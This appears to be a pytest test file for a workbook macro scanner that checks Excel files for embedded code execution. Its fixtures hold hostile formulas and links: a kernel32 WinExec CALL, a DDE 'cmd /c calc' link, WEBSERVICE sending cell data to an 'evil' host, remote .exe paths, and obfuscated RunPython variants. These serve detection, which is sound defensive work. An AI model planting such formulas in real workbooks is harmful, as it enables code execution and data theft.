"""A workbook that would run code of somebody else, with our macros untouched: each way is told, and
what is harmless is not."""

from __future__ import annotations

from pathlib import Path

import pytest

from parkeval_xl.checks.calls import Verdict, called, procedures
from parkeval_xl.install.answer import FAULT, OK, WARNING, Answer
from parkeval_xl.install.received import Received
from parkeval_xl.workbook.package import Package
from parkeval_xl.workbook.patch import replace_parts
from tests.install.fake_machine import clean

SHEET, BOOK, RELATIONS, RIBBON = (
    "xl/worksheets/sheet1.xml",
    "xl/workbook.xml",
    "xl/_rels/workbook.xml.rels",
    "customUI/customUI14.xml",
)
RULE = (
    '<conditionalFormatting sqref="A1"><cfRule type="{}" '
    'priority="9999">{}</cfRule></conditionalFormatting>'
)
VALIDATION = (
    '<extLst><ext xmlns:x="urn:x"><x:dataValidation '
    'prompt="{}"><x:formula1>{}</x:formula1></x:dataValidation></ext></extLst>'
)
SHAPE = (
    '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing">'
    "<xdr:sp {}/></xdr:wsDr>"
)
EXTERNAL = (
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{}</extern'
    "alLink>"
)
VML = (
    '<xml xmlns:x="urn:schemas-microsoft-com:office:excel"><x:ClientData '
    'ObjectType="Button">{}</x:ClientData></xml>'
)


def judged(path: Path) -> Answer:
    """What `doctor FILE` says of its macros."""
    return next(
        t.answer for t in Received(clean(system="linux"), path).results() if t.id == "file_macros"
    )


def with_text(path: Path, part: str, old: str, new: str) -> Path:
    """The workbook with a text of a part replaced where it stands first."""
    content = Package.open(path).read(part).decode()
    assert old in content
    replace_parts(path, {part: content.replace(old, new, 1).encode()}, path)
    return path


def with_cell(path: Path, cell: str, sheet: str = SHEET) -> Path:
    """The workbook with a cell far below all others."""
    return with_text(path, sheet, "</sheetData>", f'<row r="900">{cell}</row></sheetData>')


@pytest.mark.parametrize(
    "formula",
    [
        "RunPython(&quot;import os&quot;)",
        "1+runpython (&quot;import os&quot;)",
        "&#82;unPython(&quot;import os&quot;)",
        "_x0052_unPython(&quot;import os&quot;)",
        "Run<!-- -->Python(&quot;import os&quot;)",
        "<![CDATA[RunPython(1)]]>",
        "ＲｕｎＰｙｔｈｏｎ（1）",
        "xlwings.RunFrozenPython(&quot;\\\\evil\\x.exe&quot;)",
        "'园区.xlsm'!RunPython(1)",
        "[0]!RunPython(1)",
        "IF(1,ExecuteWindows(TRUE,&quot;\\\\evil\\x.exe&quot;,1),2)",
        "'a\"b'!A1&amp;RunPython(1)&amp;'c\"d'!A1",
        "_xlfn.REDUCE(0,A1:A3,RunPython)",
        "CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0)",
        "REGISTER.ID(&quot;x&quot;,&quot;y&quot;)",
        "_xlfn.WEBSERVICE(&quot;http://evil/&quot;&amp;A1)",
        "[1]!Evil(1)",
        "cmd|'/c calc'!A1",
        "HYPERLINK(&quot;#RunThat()&quot;,&quot;详情&quot;)",
        "HYPERLINK(A1&amp;B1,&quot;详情&quot;)",
    ],
)
def test_a_cell_that_calls_what_runs_code(book: Path, formula: str) -> None:
    answer = judged(with_cell(book, f'<c r="A900" t="str"><f>{formula}</f><v></v></c>'))
    assert (
        answer.state == FAULT
        and "封面" in answer.what[0]
        and "代码" in answer.what[0]
        and "不要启用" in answer.mend[0]
    )


@pytest.mark.parametrize(
    ("part", "old", "new", "says"),
    [
        (
            BOOK,
            "</definedNames>",
            '<definedName name="zz">RunPython(1)</definedName></definedNames>',
            "zz",
        ),
        (
            BOOK,
            "</definedNames>",
            '<definedName name="zz" xlm="1" function="1">封面!$A$1</definedName></definedNames>',
            "zz",
        ),
        (
            BOOK,
            "</definedNames>",
            '<definedName name="_xlnm.Auto_Open">封面!$A$1</definedName></definedNames>',
            "Auto_Open",
        ),
        (
            SHEET,
            "</worksheet>",
            RULE.format("expression", "<formula>RunPython(1)</formula>") + "</worksheet>",
            "RunPython",
        ),
        (
            SHEET,
            "</worksheet>",
            RULE.format("dataBar", '<dataBar><cfvo type="formula" val="CALL(1)"/></dataBar>')
            + "</worksheet>",
            "CALL",
        ),
        (
            SHEET,
            "</worksheet>",
            VALIDATION.format("", "<xm:f xmlns:xm='urn:m'>RunPython(1)</xm:f>") + "</worksheet>",
            "RunPython",
        ),
        (
            SHEET,
            "</worksheet>",
            '<hyperlinks><hyperlink ref="A1" location="RunPython(1)"/></hyperlinks></worksheet>',
            "RunPython",
        ),
        (
            SHEET,
            "</worksheet>",
            "<unheard><of>RunPython(1)</of></unheard></worksheet>",
            "RunPython",
        ),
        (RIBBON, 'onAction="ParkRun"', 'onAction="xlwings.ImportPythonUDFs"', RIBBON),
        (RIBBON, "请确认本机已安装", "请访问 evil.example 下载", RIBBON),
        (
            RELATIONS,
            "</Relationships>",
            '<Relationship Id="rIdM" Target="other.bin" '
            'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/></'
            "Relationships>",
            "other.bin",
        ),
        (
            RELATIONS,
            "</Relationships>",
            '<Relationship Id="rIdM" Target="m.xml" '
            'Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"/></'
            "Relationships>",
            "xlMacrosheet",
        ),
    ],
)
def test_a_part_that_calls_what_runs_code(
    book: Path, part: str, old: str, new: str, says: str
) -> None:
    answer = judged(with_text(book, part, old, new))
    assert answer.state == FAULT and says in answer.what[0] and says in answer.what[1]


@pytest.mark.parametrize(
    ("part", "content", "says"),
    [
        ("xl/drawings/d.xml", SHAPE.format('macro="[0]!ParkRun"'), "ParkRun"),
        ("xl/drawings/d.xml", SHAPE.format('textlink="RunPython(1)"'), "RunPython"),
        ("xl/drawings/d.vml", VML.format("<x:FmlaMacro>[0]!ParkRun</x:FmlaMacro>"), "ParkRun"),
        ("xl/drawings/d.vml", "<xml><br><x:FmlaMacro>ParkRun</x:FmlaMacro></xml>", "d.vml"),
        ("xl/ctrlProps/c.bin", '<formControlPr fmlaMacro="ParkRun"/>', "ParkRun"),
        (
            "xl/externalLinks/e.xml",
            EXTERNAL.format('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
            "ddeLink",
        ),
        ("XL/Theme/Theme1.xml", "<x/>", "case"),
    ],
)
def test_a_part_more_that_runs_code(book: Path, part: str, content: str, says: str) -> None:
    replace_parts(book, {part: content.encode()}, book)
    answer = judged(book)
    assert answer.state == FAULT and says in answer.what[0]


def test_a_formula_on_the_sheet_of_settings(book: Path) -> None:
    part = Package.open(book).worksheet("xlwings.conf").part
    answer = judged(with_cell(book, '<c r="D900" t="str"><f>"a"&amp;"b"</f><v></v></c>', part))
    assert answer.state == FAULT and "xlwings.conf" in answer.what[0]


def test_a_function_that_nobody_here_knows_is_not_certified(book: Path) -> None:
    answer = judged(with_cell(book, '<c r="A900"><f>SOMEADDIN(1)</f><v>1</v></c>'))
    assert answer.state == WARNING and "SOMEADDIN" in answer.what[0]


LINKS = "xl/worksheets/_rels/sheet1.xml.rels"
RELATION = (
    '<Relationship Id="rIdL" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="{}" '
    'TargetMode="External"/></Relationships>'
)


def with_link(path: Path, kind: str, target: str) -> Path:
    """The workbook with something outside that its first sheet refers to."""
    package = Package.open(path)
    whole = (
        package.read(LINKS).decode()
        if LINKS in package.names
        else (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships'
            '"></Relationships>'
        )
    )
    replace_parts(
        path,
        {LINKS: whole.replace("</Relationships>", RELATION.format(kind, target)).encode()},
        path,
    )
    return path


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("externalLinkPath", r"\\evil\share\x.xlsx"),
        ("externalLinkPath", "file://evil/share/x.xlsx"),
        ("externalLinkPath", "file:////evil/share/x.xlsx"),
        ("externalLinkPath", "file:///C:/tools/x.XLAM"),
        ("xlStartup", "x.xla"),
        ("externalLinkPath", "https://example.org/x.xll?a=1"),
        ("image", "%5C%5Cevil/share/x.png"),
        ("hyperlink", "file:///C:/Windows/System32/calc.exe"),
        ("hyperlink", r"..\run.bat"),
        ("hyperlink", "file:///C:/x.%65xe"),
        ("hyperlink", "x.exe. "),
        ("hyperlink", "x.hta#A1"),
        ("hyperlink", r"\\evil\share\发票.pdf.lnk"),
        ("hyperlink", "command.com"),
        ("hyperlink", "add.xlam"),
    ],
)
def test_a_link_to_a_program_or_a_share_is_not_certified(
    book: Path, kind: str, target: str
) -> None:
    answer = judged(with_link(book, kind, target))
    assert (
        answer.state == WARNING
        and f"{kind} {target}".strip() in answer.what[0]
        and "封面" in answer.what[0]
    )


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "https://example.com"),
        ("hyperlink", "https://example.org/setup.exe"),  # the browser's business
        ("hyperlink", "www.example.com"),
        ("hyperlink", "mailto:wang@example.com"),
        ("hyperlink", "佐证/发票 1.pdf"),
        ("hyperlink", r"..\佐证\协议.docx"),
        ("hyperlink", r"\\park-server\佐证\台账.xlsx"),  # an ordinary place of evidence
        ("hyperlink", "file:///D:/%E4%BD%90%E8%AF%81/a.exe.jpg"),
        ("externalLinkPath", "file:///D:/2024.xlsx"),
        ("externalLinkPath", "file://localhost/D:/2024.xlsx"),
        ("externalLinkPath", "2024.xlsx"),
        ("externalLinkPath", "https://example.org/2024.xlsx"),
    ],
)
def test_a_link_to_evidence_or_a_page_is_no_code(book: Path, kind: str, target: str) -> None:
    assert judged(with_link(book, kind, target)).state == OK


def test_a_formula_that_links_to_a_program(book: Path) -> None:
    answer = judged(
        with_cell(
            book, '<c r="A900"><f>HYPERLINK("file:///C:/Windows/System32/calc.exe","说明")</f></c>'
        )
    )
    assert answer.state == WARNING and "calc.exe" in answer.what[0]


def test_many_findings_are_told_shortly(book: Path) -> None:
    cells = "".join(f'<c r="A{n}"><f>RunPython({n})</f></c>' for n in range(900, 960))
    replaced = with_text(book, SHEET, "</sheetData>", f'<row r="900">{cells}</row></sheetData>')
    assert len(judged(replaced).what[0]) < 500


@pytest.mark.parametrize(
    "content",
    [
        "<c r=\"A900\"><f>SUM(A1:A3)+'表 (1)'!B2+表1[数量(t)]+PARK_CHANGE(1,2)</f><v>1</v></c>",
        '<c r="A900"><f>_xlfn.XLOOKUP(1,A1:A3,B1:B3)+_xlfn._xlws.FILTER(A1,B1)</f><v>1</v></c>',
        '<c r="A900"><f>HYPERLINK("https://example.org/a","甲(乙|丙)")</f><v>1</v></c>',
        '<c r="A900" t="str"><f>A1:INDEX(B1:B9,2)&amp;"电话(CALL)"</f><v>RunPython(1)</v></c>',
        '<c r="A900" t="inlineStr"><is><t>如 RunPython(1)</t></is></c>',
    ],
)
def test_what_a_person_writes_is_no_code(book: Path, content: str) -> None:
    assert judged(with_cell(book, content)).state == OK


def test_a_picture_as_excel_writes_it_is_no_code(book: Path) -> None:
    shape = SHAPE.format('macro="" textlink="$A$1"').encode()
    replace_parts(book, {"xl/drawings/d.xml": shape, "xl/drawings/d.vml": b"<xml><br></xml>"}, book)
    assert judged(book).state == OK


def test_the_procedures_are_those_a_cell_could_name() -> None:
    """By their declarations in xlwings.bas 0.37.8 and in our modules."""
    assert {
        "runpython",
        "runfrozenpython",
        "executewindows",
        "xlpycommand",
        "parkrun",
        "parkfail",
    } <= procedures()
    assert not any(name.startswith("park_") for name in procedures())
    assert called("PARK_EMISSION(1)") is None
    assert called("XLPyCommand()") == ("XLPyCommand", Verdict.RUNS)
